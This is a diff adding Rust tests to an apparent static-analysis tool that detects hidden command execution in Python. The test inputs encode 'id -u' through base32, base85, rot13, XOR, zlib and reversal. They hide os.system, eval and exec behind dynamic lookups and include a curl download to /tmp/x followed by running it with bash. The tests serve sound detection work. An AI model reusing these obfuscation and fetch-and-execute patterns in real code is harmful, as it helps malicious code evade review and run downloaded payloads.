@@ -109,3 +109,60 @@ fn names_and_getattr_resolve_through_folding() {
     );
     assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
 }
+
+#[test]
+fn decoders_xor_and_index_maps_fold() {
+    let got = strings(concat!(
+        "import base64, codecs, zlib, urllib.parse\n",
+        "a = base64.b32decode('NFSCALLV').decode()\n",
+        "b = base64.b85decode('X=ETRbp').decode()\n",
+        "c = base64.a85decode('Bk/><FT').decode()\n",
+        "d = codecs.decode('vq -h', 'rot_13')\n",
+        "e = urllib.parse.unquote('id%20-u')\n",
+        "K = 0x20\n",
+        "D = [73, 68, 0, 13, 85]\n",
+        "f = ''.join(chr(c ^ K) for c in D)\n",
+        "g = bytes(b ^ K for b in D).decode()\n",
+        "P = [' -u', 'id']\n",
+        "h = ''.join(P[i] for i in [1, 0])\n",
+        "i = chr(100 + 5) + chr(0x64)\n",
+        "j = ''.join(chr(ord(c) - 1) for c in 'je!.v')\n",
+        "k = zlib.decompress(base64.b64decode('eJzLTFHQLQUABNEBkA==')).decode()\n",
+        "l = ''.join(reversed('u- di'))\n",
+    ));
+    let mut want = vec!["id -u"; 8];
+    want.extend(["id", "id -u", "id -u", "id -u"]);
+    assert_eq!(got, want);
+}
+
+#[test]
+fn hidden_lookups_resolve_and_are_reported() {
+    let f = test_util::facts(
+        Language::Python,
+        "import os\nrun = getattr(os, 'sys' + 'tem')\nrun(c)\nglobals()['__builtins__']['ev' + 'al'](s)\nvars(__builtins__)['exec'](s)\ngetattr(__builtins__, k)(s)\ngetattr(self, name)()",
+    );
+    let c = test_util::callees(f);
+    assert_has_all(
+        &c,
+        &[
+            "<lookup>:os.system",
+            "os.system",
+            "<lookup>:eval",
+            "eval",
+            "<lookup>:exec",
+            "exec",
+            "<lookup>:builtins[]",
+        ],
+    );
+    assert!(!c.iter().any(|c| c.contains("self")), "{c:?}");
+}
+
+#[test]
+fn downloads_across_argument_vectors() {
+    let sink = test_util::sink(
+        Language::Python,
+        "import subprocess\np = '/tmp/x'\nsubprocess.run(['curl', '-o', p, 'https://example.invalid/x'])\nsubprocess.run(['bash', p])",
+    );
+    let run = test_util::command(&sink, "<run-downloaded>");
+    assert!(matches!(&run.kind, FactKind::Command { args, .. } if args == &["/tmp/x"]));
+}
